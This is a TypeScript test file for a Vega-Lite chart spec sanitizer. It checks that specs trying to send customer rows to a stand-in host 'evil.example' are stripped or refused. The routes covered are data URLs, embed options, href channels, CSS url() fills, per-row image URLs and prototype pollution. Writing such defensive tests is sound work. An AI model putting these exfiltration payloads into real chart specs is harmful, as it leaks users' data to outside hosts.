import { compile } from 'vega-lite';
import { describe, expect, it } from 'vitest';
import { inferColumnTypes } from './column-types.js';
import { MAX_JSON_DEPTH, MAX_VIEW_DEPTH, sanitizeSpec } from './spec-sanitizer.js';
import { injectData, validateSpec, type Spec } from './vega-spec.js';

const rows = [
  { customer: 'ann@example.com', country: 'DE', revenue: 120.5 },
  { customer: 'bob@example.com', country: 'FR', revenue: -9 },
];
const columns = inferColumnTypes(Object.keys(rows[0]), rows);
const EVIL = 'https://evil.example/collect';
const dataUrl = { url: `${EVIL}?d=1`, format: { type: 'json' } };
const bar = { mark: 'bar', encoding: { x: { field: 'country', type: 'nominal' }, y: { field: 'revenue', type: 'quantitative' } } };

function kept(spec: unknown): Spec {
  const result = sanitizeSpec(spec);
  if ('error' in result) throw new Error(`refused: ${result.error}`);
  return result.value;
}

// Each attack form seen against the running app ("Why" 1 of issue 8), plus the other places
// vega or vega-embed take a URL from.
const attacks: [string, Spec][] = [
  ['top-level data.url', { ...bar, data: dataUrl }],
  ['datasets with a url', { ...bar, datasets: { d: { url: EVIL } }, data: { name: 'd' } }],
  ['data.url in a layer', { layer: [{ ...bar, data: dataUrl }, { mark: 'rule', data: dataUrl, encoding: { y: { field: 'revenue', type: 'quantitative' } } }] }],
  ['data.url in hconcat', { hconcat: [{ ...bar, data: dataUrl }] }],
  ['data.url in vconcat', { vconcat: [{ ...bar, data: dataUrl }] }],
  ['data.url in concat', { concat: [{ ...bar, data: dataUrl }], columns: 2 }],
  ['data.url in a facet spec', { facet: { field: 'country', type: 'nominal' }, spec: { ...bar, data: dataUrl } }],
  ['data.url in a repeat spec', { repeat: ['revenue'], spec: { mark: 'bar', data: dataUrl, encoding: { x: { field: { repeat: 'repeat' }, type: 'quantitative' } } } }],
  ['data.url in a layer in a concat', { hconcat: [{ layer: [{ ...bar, data: dataUrl }] }] }],
  ['lookup from.data.url', { ...bar, transform: [{ lookup: 'country', from: { data: dataUrl, key: 'country', fields: ['name'] } }] }],
  ['usermeta embedOptions', { ...bar, usermeta: { embedOptions: { loader: { baseURL: EVIL }, patch: EVIL, actions: { editor: true }, editorUrl: EVIL } } }],
  ['url and href channels', { ...bar, encoding: { ...bar.encoding, href: { field: 'customer' }, url: { value: EVIL } } }],
  ['href as a mark property', { ...bar, mark: { type: 'bar', href: EVIL, tooltip: true } }],
  ['href in config', { ...bar, config: { mark: { href: EVIL }, bar: { href: EVIL }, style: { x: { href: EVIL } } } }],
  ['href in a condition', { ...bar, encoding: { ...bar.encoding, color: { condition: { param: 'p', value: 'red', href: EVIL }, value: 'blue' } } }],
  ['a param bound into another part of the page', { ...bar, params: [{ name: 'p', value: 1, bind: { input: 'range', min: 0, max: 5, element: `#root a[href="${EVIL}"]` } }] }],
  ['vega signals and a vega $schema', { ...bar, $schema: 'https://vega.github.io/schema/vega/v6.json', signals: [{ name: 's', value: EVIL }] }],
  ['an unknown key at the top', { ...bar, loader: { baseURL: EVIL }, 'x-evil': EVIL }],
];

describe('chart spec sanitizer', () => {
  it.each(attacks)('removes %s, and what is left draws the injected rows', (_name, attack) => {
    const clean = kept(attack);
    expect(JSON.stringify(clean)).not.toContain('evil.example');
    const spec = injectData(clean, rows);
    expect(() => compile(spec as never)).not.toThrow();
    // The compiled Vega has one data source, the injected rows, and no URL anywhere.
    const vega = JSON.stringify(compile(spec as never).spec);
    expect(vega).not.toContain('evil.example');
    expect(vega).not.toMatch(/"url"\s*:/);
  });

  it('drops colours and styles the renderer would fetch: url(…) fills and strokes, image-set, @import (red-team finding)', () => {
    const spec = {
      mark: { type: 'bar', fill: `url(${EVIL}?fill)`, stroke: ` URL ( ${EVIL}?stroke)`, color: 'steelblue' },
      encoding: { x: { field: 'a', type: 'nominal' }, y: { field: 'b', type: 'quantitative' }, color: { value: `url(${EVIL}?value)` } },
      config: { view: { fill: `url(${EVIL}?view)` }, axis: { labelColor: `image-set("${EVIL}" 1x)` }, range: { category: ['red', `url(${EVIL}?range)`] } },
      background: `@import "${EVIL}"`,
    };
    const cleaned = sanitizeSpec(spec);
    if ('error' in cleaned) throw new Error(cleaned.error);
    expect(JSON.stringify(cleaned.value)).not.toContain('evil.example');
    expect(cleaned.value.mark).toEqual({ type: 'bar', color: 'steelblue' });
    expect((cleaned.value.config as { range: { category: string[] } }).range.category).toEqual(['red']);
  });

  it('refuses an image mark whose url is computed from each row, saying why', () => {
    const result = sanitizeSpec({
      transform: [{ calculate: `'${EVIL}?e=' + datum.customer`, as: 'pixel' }],
      mark: 'image',
      encoding: { url: { field: 'pixel' }, x: { field: 'country', type: 'nominal' } },
    });
    expect(result).toEqual({ error: expect.stringMatching(/image marks are not allowed/) });
    expect(sanitizeSpec({ layer: [bar, { mark: { type: 'image', width: 1 }, encoding: { url: { value: EVIL } } }] })).toEqual({ error: expect.stringMatching(/image/) });
    expect(sanitizeSpec({ mark: 'script' })).toEqual({ error: expect.stringMatching(/"script" is not a mark/) });
  });

  it('keeps a normal chart exactly as written, and it compiles and validates', () => {
    const normal = {
      title: { text: 'Revenue by country', subtitle: 'all time' },
      width: 'container',
      height: 300,
      params: [
        { name: 'pick', select: { type: 'point', fields: ['country'] }, bind: 'legend' },
        { name: 'threshold', value: 0, bind: { input: 'range', min: -10, max: 200, step: 1 } },
      ],
      transform: [
        { filter: 'datum.revenue > -100' },
        { calculate: 'datum.revenue * 2', as: 'double' },
        { joinaggregate: [{ op: 'sum', field: 'revenue', as: 'total' }] },
      ],
      layer: [
        {
          mark: { type: 'bar', tooltip: true, cornerRadiusEnd: 2 },
          encoding: {
            x: { field: 'country', type: 'nominal', sort: '-y', axis: { labelAngle: 0 } },
            y: { field: 'double', type: 'quantitative', scale: { zero: true } },
            color: { condition: { param: 'pick', field: 'country', type: 'nominal' }, value: 'lightgray' },
            tooltip: [{ field: 'customer' }, { field: 'revenue', type: 'quantitative', format: ',.2f' }],
          },
        },
        { mark: 'rule', encoding: { y: { datum: 0 }, size: { value: 2 } } },
      ],
      config: { axis: { grid: false }, view: { stroke: null } },
    };
    expect(kept(normal)).toEqual(normal);
    const spec = injectData(kept(normal), rows);
    expect(validateSpec(spec, columns)).toBeNull();
    expect(compile(spec as never).spec).toBeTruthy();
  });

  it('keeps a selection lookup and drops a lookup into other data', () => {
    const selection = { ...bar, transform: [{ lookup: 'country', from: { param: 'pick', key: 'country' } }] };
    expect(kept(selection).transform).toEqual(selection.transform);
    const other = kept({ ...bar, transform: [{ lookup: 'country', from: { data: { values: [{ country: 'DE' }] }, key: 'country' } }] });
    expect(other.transform).toEqual([]);
  });

  it('bounds nesting: too many nested views, or JSON nested too deep, is refused (not a stack overflow)', () => {
    let views: Spec = bar;
    for (let i = 0; i <= MAX_VIEW_DEPTH; i++) views = { layer: [views] };
    expect(sanitizeSpec(views)).toEqual({ error: expect.stringMatching(/nested more than/) });
    let deep: unknown = 1;
    for (let i = 0; i < MAX_JSON_DEPTH + 5; i++) deep = [deep];
    expect(sanitizeSpec({ ...bar, title: { text: deep } })).toEqual({ error: expect.stringMatching(/nested more than/) });
    expect(sanitizeSpec([bar])).toEqual({ error: expect.stringMatching(/JSON object/) });
  });

  it('does not let a "__proto__" key reach the output', () => {
    const clean = kept(JSON.parse(`{"mark":"bar","config":{"__proto__":{"polluted":true}}}`));
    expect(Object.getPrototypeOf(clean.config)).toBe(Object.prototype);
    expect(({} as { polluted?: boolean }).polluted).toBeUndefined();
  });
});
